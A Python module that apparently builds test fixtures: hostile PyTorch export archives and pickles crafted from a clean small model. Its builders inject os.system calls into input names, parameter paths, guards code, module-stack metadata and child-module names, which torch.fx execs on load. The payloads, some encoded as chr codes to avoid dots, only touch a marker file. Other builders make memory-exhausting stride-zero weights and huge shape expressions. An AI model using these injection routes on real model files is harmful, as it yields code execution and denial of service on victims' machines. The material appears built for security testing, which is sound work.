"""A corpus of crafted model files, each built in code from a real small one.

Every builder takes a clean archive's members (name, bytes) and a marker
path, and returns the members of a hostile archive whose payload would create
the marker. A new route is one more builder in ``PT2_ROUTES``.

The payloads reach Python source that torch.fx generates and ``exec``s.
Where fx splits a name on dots (attribute paths), the payload is written
without dots or quotes of its own (``dotless_command``).
"""

from __future__ import annotations

import io
import json
import warnings
import zipfile

import torch
import torch.nn as nn


def train_mode_model() -> nn.Module:
    """A small MLP with Dropout, to be exported in train mode (the dropout stays in the graph)."""
    torch.manual_seed(0)
    return nn.Sequential(nn.Linear(4, 8), nn.ReLU(), nn.Dropout(0.25), nn.Linear(8, 2)).train()


def export_clean(path) -> tuple[nn.Module, torch.Tensor]:
    """Write the clean archive every crafted one starts from; returns the model and an input."""
    model, x = train_mode_model(), torch.randn(3, 4)
    ep = torch.export.export(model, (x,), dynamic_shapes=({0: torch.export.Dim("batch")},))
    torch.export.save(ep, path)
    return model, x


def read_zip(path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


def write_zip(path, members) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(path, "w") as z:
            for name, data in members:
                z.writestr(name, data)


def shell_command(marker) -> str:
    """Python that creates ``marker`` (quotes and dots allowed)."""
    return f"__import__('os').system('touch {marker}')"


def dotless_command(marker) -> str:
    """Python that creates ``marker``, written without a dot or a double quote."""
    codes = ",".join(str(ord(c)) for c in f"touch {marker}")
    return f"getattr(__import__('os'),'system')(getattr('','join')(map(chr,[{codes}])))"


def edit_json(members, suffix: str, edit) -> list[tuple[str, bytes]]:
    """Members with the one JSON member ending in ``suffix`` replaced by ``edit(data)``'s."""
    hits = [i for i, (n, _) in enumerate(members) if n.endswith(suffix)]
    assert len(hits) == 1, (suffix, [n for n, _ in members])
    name, data = members[hits[0]]
    value = json.loads(data)
    value = edit(value) or value
    members = list(members)
    members[hits[0]] = (name, json.dumps(value).encode())
    return members


def rename(value, old: str, new: str):
    """Every tensor named ``old`` ({"name": old}, and as a dict key) is named ``new``."""
    if isinstance(value, dict):
        if set(value) == {"name"} and value["name"] == old:
            return {"name": new}
        return {(new if k == old else k): rename(v, old, new) for k, v in value.items()}
    if isinstance(value, list):
        return [rename(v, old, new) for v in value]
    return value


def user_input_name(program) -> str:
    spec = next(s for s in program["graph_module"]["signature"]["input_specs"]
                if "user_input" in s)
    return spec["user_input"]["arg"]["as_tensor"]["name"]


# -- the routes (numbers as in issue 22) --------------------------------------------------------

def placeholder_target(members, marker):
    """Route 1: the user input's name becomes ``x=<payload>``, a default argument of the
    ``forward`` fx generates and execs while torch.export.load rebuilds the module."""
    def edit(program):
        old = user_input_name(program)
        return rename(program, old, f"{old}={shell_command(marker)}")
    return edit_json(members, "models/model.json", edit)


def parameter_fqn(members, marker):
    """Route 2: a parameter's path closes the quoted string of ``getattr(self, "...")``."""
    payload = f'bias"),{dotless_command(marker)},getattr(self,"training'

    def program(p):
        for spec in p["graph_module"]["signature"]["input_specs"]:
            if spec.get("parameter", {}).get("parameter_name") == "0.weight":
                spec["parameter"]["parameter_name"] = f"0.{payload}"

    def weights(config):
        config["config"][f"0.{payload}"] = config["config"].pop("0.weight")

    members = edit_json(members, "models/model.json", program)
    return edit_json(members, "model_weights_config.json", weights)


def guards_code(members, marker):
    """Route 3: the archive's guards code, which ``ep.module()`` compiles and runs."""
    def edit(program):
        program["guards_code"] = [f"{shell_command(marker)} == 0"]
    return edit_json(members, "models/model.json", edit)


def module_stack_path(members, marker):
    """Route 6: the dropout's ``nn_module_stack`` path, which becomes a submodule name when
    ressurgeon turns the aten dropout back into an nn.Dropout. No comma outside brackets in
    torch's count (it splits the entry on those): an empty dict attribute, then ``or``."""
    payload = f'_forward_hooks")or({dotless_command(marker)})or str("d'

    def edit(program):
        for node in program["graph_module"]["graph"]["nodes"]:
            if node["target"] == "torch.ops.aten.dropout.default":
                stack = node["metadata"]["nn_module_stack"].split(";")
                key, _, cls = stack[-1].split(",")
                stack[-1] = f"{key},{payload},{cls}"
                node["metadata"]["nn_module_stack"] = ";".join(stack)
    return edit_json(members, "models/model.json", edit)


def stride_zero_weight(members, marker, side: int = 20000):
    """Resources: a 4-byte weight viewed as ``side`` x ``side`` with strides 0 (1.6 GB)."""
    def edit(config):
        meta = config["config"]["0.weight"]["tensor_meta"]
        meta["sizes"] = [{"as_int": side}, {"as_int": side}]
        meta["strides"] = [{"as_int": 0}, {"as_int": 0}]
    members = edit_json(members, "model_weights_config.json", edit)
    return [(n, d[:4] if n.endswith("data/weights/weight_0") else d) for n, d in members]


def power_tower(members, marker):
    """Resources: a shape expression whose value has billions of digits."""
    def edit(program):
        values = program["graph_module"]["graph"]["tensor_values"]
        name = user_input_name(program)
        values[name]["sizes"][0] = {"as_expr": {"expr_str": "Pow(10, Pow(10, Pow(10, 9)))",
                                                "hint": None}}
    return edit_json(members, "models/model.json", edit)


PT2_ROUTES = {
    "1 placeholder target": placeholder_target,
    "2 parameter path": parameter_fqn,
    "3 guards code": guards_code,
    "6 nn_module_stack path": module_stack_path,
}


# -- route 4: a torch.nn pickle -------------------------------------------------------------

def nn_pickle_with_named_child(path, marker) -> None:
    """Route 4: a Sequential of torch.nn classes only (loads without the flag) whose child is
    named with a payload; tracing writes the name into ``getattr(self, "...")``."""
    model = nn.Sequential(nn.Linear(4, 4), nn.ReLU())
    payload = f'_forward_hooks")or({dotless_command(marker)})or str("r'
    model._modules = {"0": model._modules["0"], payload: model._modules["1"]}
    torch.save(model, path)


def nn_pickle_with_stride_zero_weight(path, side: int = 20000) -> None:
    """Resources: a Linear whose weight is one float viewed as ``side`` x ``side``."""
    model = nn.Sequential(nn.Linear(4, 4))
    model[0].weight = nn.Parameter(torch.zeros(1).expand(side, side), requires_grad=False)
    buffer = io.BytesIO()
    torch.save(model, buffer)
    path.write_bytes(buffer.getvalue())
